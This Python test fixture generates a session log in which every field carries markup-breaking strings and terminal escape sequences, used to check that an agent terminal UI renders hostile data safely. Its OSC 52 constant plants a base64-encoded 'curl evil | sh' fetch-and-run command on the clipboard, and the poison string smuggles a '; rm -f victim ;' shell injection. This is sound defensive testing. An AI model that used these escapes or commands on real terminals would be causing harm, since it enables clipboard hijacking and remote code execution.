"""A session whose every string field holds markup and terminal escapes (for the safety tests)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.support.session_builder import TS

#: Markup that Rich/Textual would parse (``[/]`` raises, ``[x="`` swallows what follows) and escapes a
#: terminal would obey: OSC 52 (clipboard), OSC 0 (title), CSI 2J (clear), a bidi override.
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
OSC0 = "\x1b]0;PWNED-TITLE\x07"
CSI2J = "\x1b[2J"
BIDI = "\u202e"


def poison(tag: str) -> str:
    """A field's value: markup, escapes, then ``tag`` so the test can find the field on screen."""
    return f'[/] [x="{tag}-a" ; rm -f victim ; : "] [b]{tag}[/b] {OSC52}{OSC0}{CSI2J}{BIDI}{tag}-z'


def poisoned_lines() -> list[dict[str, Any]]:
    lines: list[dict[str, Any]] = [
        {"type": "session", "version": 3, "id": "s-poison", "timestamp": TS, "cwd": "/tmp/" + poison("cwd")}
    ]
    parent: list[str | None] = [None]

    def add(eid: str, **fields: Any) -> None:
        lines.append({"id": eid, "parentId": parent[0], "timestamp": TS, **fields})
        parent[0] = eid

    def assistant(content: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
        return {
            "role": "assistant",
            "content": content,
            "provider": poison("provider"),
            "model": poison("model"),
            "usage": {"input": 1, "output": 1, "cacheRead": 0, "cacheWrite": 0, "totalTokens": 2},
            "stopReason": "toolUse",
            "timestamp": 2,
            **extra,
        }

    add("i1", type="session_info", name=poison("name"))
    add("m1", type="model_change", provider=poison("mcprov"), modelId=poison("mcmodel"))
    add("t1", type="thinking_level_change", thinkingLevel=poison("level"))
    add("u1", type="message", message={"role": "user", "content": poison("user"), "timestamp": 1})
    bash_args = {"command": f"sed 's/[/]/x/' {poison('bashcmd')}"}
    add(
        "a1",
        type="message",
        message=assistant(
            [
                {"type": "thinking", "thinking": poison("thinking")},
                {"type": "text", "text": poison("reply")},
                {"type": "toolCall", "id": "c1", "name": "read", "arguments": {"path": poison("readpath")}},
                {"type": "toolCall", "id": "c2", "name": "bash", "arguments": bash_args},
                {
                    "type": "toolCall",
                    "id": "c3",
                    "name": poison("toolname"),
                    "arguments": {poison("argkey"): 1},
                },
            ]
        ),
    )
    for cid, name in (("c1", "read"), ("c2", "bash"), ("c3", poison("resulttool"))):
        add(
            f"r{cid}",
            type="message",
            message={
                "role": "toolResult",
                "toolCallId": cid,
                "toolName": name,
                "content": [{"type": "text", "text": poison(f"result{cid}")}],
                "isError": cid == "c3",
                "timestamp": 3,
            },
        )
    add(
        "p1",
        type="custom",
        customType="agent-tui.permission",
        data={
            "tool": "bash",
            "summary": poison("permsummary"),
            "decision": "allow-once",
            "scope": "bash:" + poison("permscope"),
            "mode": "ask",
            "toolCallId": "c2",
        },
    )
    add("k1", type="custom", customType=poison("customtype"), data={"x": poison("customdata")})
    add(
        "cm",
        type="custom_message",
        customType=poison("cmtype"),
        content=poison("custommessage"),
        display=True,
    )
    add(
        "b1",
        type="message",
        message={
            "role": "bashExecution",
            "command": poison("bashexec"),
            "output": poison("bashout"),
            "exitCode": 0,
            "cancelled": False,
            "truncated": False,
            "timestamp": 4,
        },
    )
    add("l1", type="label", targetId="u1", label=poison("label"))
    add("bs", type="branch_summary", fromId="u1", summary=poison("branchsummary"))
    add(
        "x1",
        type="context_edit",
        targetId="rc1",
        replacement={"role": "toolResult", "content": poison("replacement")},
    )
    add(
        "e1",
        type="message",
        message=assistant(
            [{"type": "text", "text": poison("errreply")}], stopReason="error", errorMessage=poison("errmsg")
        ),
    )
    add(
        "cp",
        type="compaction",
        summary=poison("compsummary"),
        firstKeptEntryId="u1",
        tokensBefore=100,
    )
    add("u2", type="message", message={"role": "user", "content": poison("lastuser"), "timestamp": 5})
    add(
        "a2",
        type="message",
        message=assistant([{"type": "text", "text": poison("lastreply")}], stopReason="stop"),
    )
    return lines


def write_poisoned(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(line) + "\n" for line in poisoned_lines()))
    return path
